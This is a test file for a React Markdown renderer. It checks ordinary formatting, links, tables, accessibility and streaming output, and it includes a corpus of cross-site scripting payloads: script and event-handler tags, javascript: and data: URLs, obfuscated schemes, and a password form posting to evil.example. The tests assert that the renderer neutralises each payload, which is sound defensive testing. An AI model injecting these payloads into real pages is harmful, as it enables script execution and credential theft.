@@ -1,0 +1,141 @@
+import { describe, expect, it } from 'vitest';
+import { render } from 'vitest-browser-react';
+import '../styles.css';
+import '../testing/story-frame.css';
+import { brokenRules } from '../testing/axe.js';
+import { Markdown } from './markdown.js';
+
+const shown = async (text: string) => (await render(<Markdown text={text} />)).container;
+
+describe('what people write', () => {
+  it('shows as elements', async () => {
+    const box = await shown(
+      '# Title\n\n**bold** *soft* ~~gone~~ `code`\n\n1. a\n2. b\n\n- [x] done\n\n> quote\n\n```js\nlet a;\n```\n\n---',
+    );
+    for (const selector of [
+      'h3',
+      'strong',
+      'em',
+      'del',
+      'code',
+      'ol > li',
+      'ul > li',
+      'blockquote',
+      'pre',
+      'hr',
+    ])
+      expect(box.querySelector(selector), selector).not.toBeNull();
+    expect(box.textContent).toContain('js');
+    expect(box.querySelector('[role="img"]')?.getAttribute('aria-label')).toBe('Done');
+  });
+
+  it('shows tables with their alignment', async () => {
+    const box = await shown('| a | b |\n|---|--:|\n| 1 | 2 |');
+    expect([...box.querySelectorAll('th, td')].map((cell) => cell.textContent)).toEqual(['a', 'b', '1', '2']);
+    expect(box.querySelector('td[data-align="right"]')?.textContent).toBe('2');
+  });
+
+  it('keeps line breaks, numbers of lists, and what entities stand for', async () => {
+    const box = await shown('one\ntwo\n\n3. three &amp; more\n\n`&amp;`');
+    expect(box.querySelector('br')).not.toBeNull();
+    expect(box.querySelector('ol')?.start).toBe(3);
+    expect(box.textContent).toContain('three & more');
+    expect(box.querySelector('.baton-md-code')?.textContent).toBe('&amp;');
+  });
+
+  it('opens links apart from the page and without a word about it', async () => {
+    const box = await shown('[Returns](/help/returns) https://example.com/a?b=1&c=2 help@example.com');
+    const links = [...box.querySelectorAll('a')];
+    expect(links.map((link) => link.getAttribute('href'))).toEqual([
+      '/help/returns',
+      'https://example.com/a?b=1&c=2',
+      'mailto:help@example.com',
+    ]);
+    for (const link of links)
+      expect([link.target, link.rel]).toEqual(['_blank', 'noopener noreferrer nofollow']);
+  });
+
+  it('shows pictures as links, so that nothing is fetched unasked', async () => {
+    const box = await shown('![A bag](https://example.com/bag.png)');
+    expect(box.querySelector('img')).toBeNull();
+    expect(box.querySelector('a')?.textContent).toBe('A bag');
+  });
+
+  it('is readable by rule in both themes', async () => {
+    for (const theme of ['light', 'dark']) {
+      const { container } = await render(
+        <div className="baton story-frame" data-theme={theme}>
+          <Markdown
+            text={'# A\n\n[link](/x) `code`\n\n```\ncode\n```\n\n| a |\n|---|\n| 1 |\n\n- [ ] todo'}
+          />
+        </div>,
+      );
+      expect(await brokenRules(container)).toEqual([]);
+    }
+  });
+});
+
+describe('what attackers write', () => {
+  const corpus = [
+    '<script>alert(1)</script>',
+    '<img src=x onerror=alert(1)>',
+    '<svg/onload=alert(1)>',
+    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
+    '<a href="javascript:alert(1)">x</a>',
+    '<style>*{display:none}</style>',
+    '<form action=//evil.example><input name=password></form>',
+    '<div>\n<b onclick=alert(1)>x</b>\n</div>',
+    '[x](javascript:alert(1))',
+    '[x](<javascript:alert(1)>)',
+    '[x](java&#10;script:alert(1))',
+    '[x](&#106;avascript:alert(1))',
+    '[x]: javascript:alert(1)\n\n[x]',
+    '<javascript:alert(1)>',
+    '![x](javascript:alert(1))',
+    '[x](data:text/html;base64,PHNjcmlwdD4=)',
+    '[x](//evil.example)',
+    '[x](/\\evil.example)',
+    '`<script>alert(1)</script>`',
+    '```html\n<script>alert(1)</script>\n```',
+    '# <img src=x onerror=alert(1)>',
+    '| <img src=x onerror=alert(1)> |\n|---|\n| <script>1</script> |',
+    '- <img src=x onerror=alert(1)>',
+    '<!-- --><script>alert(1)</script>',
+    '\u202e<script>alert(1)</script>',
+  ];
+
+  it.each(corpus)('stays text: %s', async (text) => {
+    const box = await shown(text);
+    expect(
+      box.querySelector('script, img, svg, iframe, style, form, input, object, embed, [onclick]'),
+    ).toBeNull();
+    for (const link of box.querySelectorAll('a'))
+      expect(link.getAttribute('href')).not.toMatch(/script|data:|evil/i);
+    for (const word of text.match(/alert\(1\)/g) ?? []) expect(box.textContent).toContain(word);
+  });
+
+  it('shows as its source where it nests deeper than anyone reads', async () => {
+    const box = await shown(`${'> '.repeat(30)}deep`);
+    expect(box.querySelectorAll('blockquote').length).toBeLessThan(12);
+    expect(box.textContent).toContain('deep');
+  });
+
+  it('shows as written where it is longer than a message may be', async () => {
+    const box = await shown(`**not bold** ${'x'.repeat(4000)}`);
+    expect(box.querySelector('strong')).toBeNull();
+    expect(box.textContent).toContain('**not bold**');
+  });
+});
+
+describe('while a bot is writing', () => {
+  it('leaves finished blocks alone', async () => {
+    const text = 'First.\n\nSecond.\n\nThird.\n\nFourth';
+    const { container, rerender } = await render(<Markdown text={text} isStreaming />);
+    const first = container.querySelector('p')?.firstChild;
+    await rerender(<Markdown text={`${text} grows.\n\nFifth`} isStreaming />);
+    expect(container.querySelector('p')?.firstChild).toBe(first);
+    expect(container.querySelectorAll('p')).toHaveLength(5);
+    await rerender(<Markdown text={`${text} grows.\n\nFifth`} />);
+    expect(container.querySelector('p')?.firstChild).toBe(first);
+  });
+});
